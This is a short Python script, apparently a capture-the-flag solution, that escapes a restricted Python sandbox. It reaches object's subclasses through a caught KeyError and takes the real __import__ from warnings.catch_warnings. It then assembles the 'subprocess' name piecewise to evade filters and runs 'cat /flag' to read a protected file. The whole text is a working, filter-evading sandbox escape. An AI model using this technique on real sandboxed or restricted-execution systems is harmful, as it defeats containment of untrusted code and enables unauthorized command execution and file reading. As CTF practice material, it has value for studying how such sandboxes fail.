# Start from a caught KeyError, take the last entry of its MRO (object) and
# find warnings.catch_warnings; an instance keeps a reference to the warnings
# module whose __builtins__ still holds the real __import__.
try:
    {}['missing']
except LookupError as err:
    top = type(err).__mro__[-1]

for cls in top.__subclasses__():
    if cls.__name__ == 'catch_warnings':
        mod = cls()._module
        b = mod.__builtins__
        imp = b['__import__'] if type(b) is dict else b.__import__
        sp = imp('sub' + 'process')
        with sp.Popen(['cat', '/flag'], stdout=-1) as p:
            print(p.stdout.read().decode(errors='replace'))
        break
